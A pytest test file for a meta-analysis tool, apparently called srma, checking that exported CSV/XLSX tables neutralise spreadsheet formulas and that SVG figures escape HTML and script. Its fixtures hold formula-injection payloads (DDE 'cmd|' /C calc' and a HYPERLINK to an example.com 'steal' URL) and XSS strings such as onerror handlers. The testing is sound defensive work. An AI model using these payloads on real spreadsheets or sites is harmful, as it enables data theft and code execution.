"""Data is never code.

- Text that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab, CR at
  the start) is neutralised with a leading ``'`` in every CSV and XLSX srma writes:
  :func:`srma.io.tables.write_csv` / ``write_xlsx``, and the commands and scripts that
  write tables (which must go through them: checked below by reading their source).
- Titles, labels and exclusion reasons with HTML or script in them are escaped in SVG
  text, and ``$`` is text, not mathtext: forest plot, PRISMA diagram and funnel plot.
  (The HTML report is tested with its own code.)
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from srma.cli import main
from srma.io.tables import read_table, write_csv, write_xlsx

REPO = Path(__file__).resolve().parents[2]
SVG = "{http://www.w3.org/2000/svg}"

#: Titles as hostile exports carry them.
FORMULAS = [
    '=HYPERLINK("http://example.com/steal?"&A1,"Illness management and recovery")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["-0.35", "+12", "'t Hooft and the recovery model", "Recovery = hope + agency"]
HOSTILE_LABEL = '<script>alert("srma")</script> & <b>Smith</b> $\\frac{1}{$ 2016'


def _csv_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell
    )


@pytest.fixture
def titles() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "title": FORMULAS + HARMLESS,
            "authors": [[t, "Smith, J"] for t in FORMULAS + HARMLESS],
            "n": range(len(FORMULAS + HARMLESS)),
        }
    )


def test_write_csv_neutralises_formulas(titles: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(titles, path)
    rows = _csv_cells(path)
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if _formula_like(c)]
    for row, title in zip(rows[1:], FORMULAS + HARMLESS, strict=True):
        assert row[0] == ("'" + title if title in FORMULAS else title)
    back = read_table(path)  # and srma reads its own tables back unchanged
    assert back["title"].tolist() == FORMULAS + HARMLESS


def test_write_xlsx_neutralises_formulas(titles: pd.DataFrame, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(titles, path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # no cell is a formula
            if isinstance(cell.value, str):
                assert not _formula_like(cell.value), cell.value
    back = read_table(path)
    assert back["title"].tolist() == [t.replace("\r", "\n") for t in FORMULAS + HARMLESS]


def _ris(titles: list[str]) -> str:
    return "".join(
        f"TY  - JOUR\nTI  - {t.strip()}\nAU  - {t.strip()}\nKW  - {t.strip()}\nPY  - 2010\nER  - \n"
        for t in titles
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_srma_import_writes_no_formula(tmp_path: Path, suffix: str) -> None:
    export = tmp_path / "hostile.ris"
    export.write_text(_ris(FORMULAS[:4]), encoding="utf-8")
    out = tmp_path / f"records{suffix}"
    assert main(["import", str(export), "--out", str(out)]) == 0
    if suffix == ".csv":
        cells = [c for row in _csv_cells(out)[1:] for c in row]
    else:
        sheet = openpyxl.load_workbook(out).worksheets[0]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        cells = [str(c.value) for row in sheet.iter_rows(min_row=2) for c in row if c.value]
    assert not [c for c in cells if _formula_like(c)]
    assert read_table(out)["title"].tolist() == [t.strip() for t in FORMULAS[:4]]


def test_srma_dedup_uncertain_pairs_write_no_formula(tmp_path: Path) -> None:
    """The uncertain pairs show both records' titles side by side."""
    export = tmp_path / "hostile.ris"
    title = '=HYPERLINK("http://example.com/x","Illness management and recovery: a trial'
    export.write_text(
        f'TY  - JOUR\nTI  - {title}")\nAU  - Mueser, Kim T.\nPY  - 2010\nER  - \n'
        f'TY  - JOUR\nTI  - {title} of outcomes")\nAU  - Mueser, Kim T.\nPY  - 2011\nER  - \n',
        encoding="utf-8",
    )
    uncertain = tmp_path / "uncertain.csv"
    argv = [
        "dedup",
        str(export),
        "--groups",
        str(tmp_path / "g.csv"),
        "--uncertain",
        str(uncertain),
    ]
    assert main(argv) == 0
    rows = _csv_cells(uncertain)
    assert len(rows) == 2, "the test needs one uncertain pair"
    assert not [c for c in rows[1] if _formula_like(c)]
    assert read_table(uncertain)["title_a"].iloc[0] == title + '")'


WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|xlsxwriter|openpyxl\.Workbook")


@pytest.mark.parametrize(
    "folder", ["scripts", "src/srma/commands", "src/srma/screening", "src/srma/extraction"]
)
def test_tables_are_written_only_through_srma_writers(folder: str) -> None:
    """Scripts and commands write CSV/XLSX with write_csv/write_xlsx, never around them."""
    offenders = [
        f"{path.relative_to(REPO)}:{i}: {line.strip()}"
        for path in sorted((REPO / folder).glob("*.py"))
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITERS.search(line)
    ]
    assert offenders == []


# --------------------------------------------------------------------------- SVG


def _svg_texts(path: Path) -> list[str]:
    root = ET.parse(path).getroot()  # well-formed XML: nothing broke out of a text node
    assert not [e for e in root.iter() if e.tag.lower().endswith("script")]
    assert not [a for e in root.iter() for a in e.attrib if a.lower().startswith("on")]
    return ["".join(e.itertext()) for e in root.iter(f"{SVG}text")]


def _check_svg(path: Path, hostile: list[str]) -> None:
    raw = path.read_text(encoding="utf-8")
    assert "<script" not in raw and "<b>" not in raw
    assert "&lt;script&gt;" in raw
    texts = _svg_texts(path)
    for text in hostile:
        assert any(text in t for t in texts), f"{text!r} not drawn verbatim"


def test_forest_plot_escapes_study_labels(tmp_path: Path) -> None:
    from srma.analysis import AnalysisSettings, run_analysis
    from srma.figures import style
    from srma.figures.forest import build_forest_figure
    from srma.figures.from_results import forest_data

    effects = pd.DataFrame(
        {
            "study_id": ["a2016", "b2018", "c2020"],
            "label": [HOSTILE_LABEL, "=cmd|' /C calc'!A0", "Jensen 2019"],
            "yi": [0.2, 0.4, -0.1],
            "vi": [0.04, 0.05, 0.03],
            "n_intervention": [40, 50, 60],
            "n_comparator": [41, 49, 58],
            "comparator_type": ["tau", "tau", "active"],
        }
    )
    analysis = run_analysis(effects, AnalysisSettings(model="random"), measure="SMD")
    data = forest_data(analysis, title="<b>Hope</b>, post-test $x$")
    written = style.save_figure_formats(build_forest_figure(data), tmp_path / "forest", ("svg",))
    _check_svg(written[0], [HOSTILE_LABEL, "=cmd|' /C calc'!A0", "<b>Hope</b>, post-test $x$"])


def test_prisma_diagram_escapes_names_and_reasons(tmp_path: Path) -> None:
    from srma.figures.prisma import save_prisma
    from srma.prisma import prisma_counts

    database = "<script>alert('db')</script> $PubMed$"
    reason = "<img src=x onerror=alert(1)> costs > $500 & < $1000"
    ident = pd.DataFrame(
        {
            "stream": ["databases"],
            "source_id": ["pubmed"],
            "database": [database],
            "records_identified": [3],
            "duplicates_removed": [0],
            "records_removed_other": [0],
        }
    )
    rows = [
        ("W1", "title_abstract", "include", None),
        ("W2", "title_abstract", "include", None),
        ("W3", "title_abstract", "exclude", None),
        ("W1", "full_text", "include", None),
        ("W2", "full_text", "exclude", reason),
    ]
    decisions = pd.DataFrame(
        [
            {
                "work_id": w,
                "stream": "databases",
                "stage": s,
                "decision": d,
                "reason": r,
                "basis": "agreement",
                "votes": "",
                "n_reviewers": 2,
            }
            for w, s, d, r in rows
        ]
    )
    counts = prisma_counts(ident, decisions)
    written = save_prisma(counts, tmp_path / "prisma", formats=("svg",))
    raw = written[0].read_text(encoding="utf-8")
    assert "<img" not in raw and "&lt;img" in raw
    _check_svg(written[0], [])
    texts = " ".join(_svg_texts(written[0]))
    for part in ("<script>alert('db')</script>", "$PubMed$", "<img src=x", "$500 & < $1000"):
        assert part in texts, part  # drawn as text (maybe wrapped), not run as markup or math


def test_funnel_title_is_text(tmp_path: Path) -> None:
    from srma.figures.funnel import FunnelData, plot_funnel

    data = FunnelData(
        yi=(0.1, 0.3, 0.5),
        sei=(0.1, 0.2, 0.3),
        estimate=0.3,
        title="<script>x</script> $\\frac{1}{$",
    )
    written = plot_funnel(data, tmp_path / "funnel")
    svg = next(p for p in written if p.suffix == ".svg")
    raw = svg.read_text(encoding="utf-8")
    assert "<script>" not in raw and "&lt;script&gt;" in raw
    assert any("$\\frac{1}{$" in t for t in _svg_texts(svg))
